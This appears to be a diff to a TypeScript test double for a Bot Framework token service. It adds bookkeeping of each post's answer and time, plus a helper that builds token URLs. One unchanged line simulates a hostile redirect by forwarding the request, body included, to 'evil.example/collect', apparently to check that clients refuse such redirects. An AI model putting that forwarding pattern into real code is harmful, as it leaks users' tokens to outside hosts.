@@ -8,6 +8,9 @@ export interface ReceivedPost {
   signInId: string | null;
   body: unknown;
   init: RequestInit;
+  /** What its sender was told, and when. */
+  answeredWith?: number;
+  answeredAt?: number;
 }
 
 /** A bot token service behind `fetch`, on fake time, that answers as it is told. */
@@ -31,7 +34,7 @@ export function createBotTokenServiceDouble(answer: BotTokenServiceDouble['answe
     fetch: async (input, init = {}) => {
       const url = new URL(input as string);
       const body: unknown = JSON.parse(init.body as string);
-      const post = { at: Date.now(), url, signInId: url.searchParams.get('state'), body, init };
+      const post: ReceivedPost = { at: Date.now(), url, signInId: url.searchParams.get('state'), body, init };
       service.posts.push(post);
       const answer = typeof service.answer === 'function' ? service.answer(post.signInId ?? '', post) : service.answer;
       await pause(answer === 'hang' ? 1e9 : service.latency, init.signal);
@@ -41,6 +44,7 @@ export function createBotTokenServiceDouble(answer: BotTokenServiceDouble['answe
         if (init.redirect === 'error') throw new TypeError(`unexpected redirect at ${url.href}`);
         return service.fetch('https://evil.example/collect', init);
       }
+      Object.assign(post, { answeredWith: answer, answeredAt: Date.now() });
       return new Response(null, { status: answer as number });
     },
   };
@@ -56,4 +60,10 @@ function pause(ms: number, signal: AbortSignal | null | undefined): Promise<void
     });
     if (signal?.aborted) reject(signal.reason as Error);
   });
+}
+
+/** A bot token URL as Bot Framework makes them: valid for a minute of the clock's time. */
+export function botTokenUrl(signInId: string, { host = 'token.botframework.com', lifetime = 60, protocol = 'https' } = {}): string {
+  const expiry = Math.floor(Date.now() / 1000) + lifetime;
+  return `${protocol}://${host}/api/sas/postToken?state=${signInId}&expiry=${expiry}&id=key-1&hmac=hmac-that-is-a-secret`;
 }
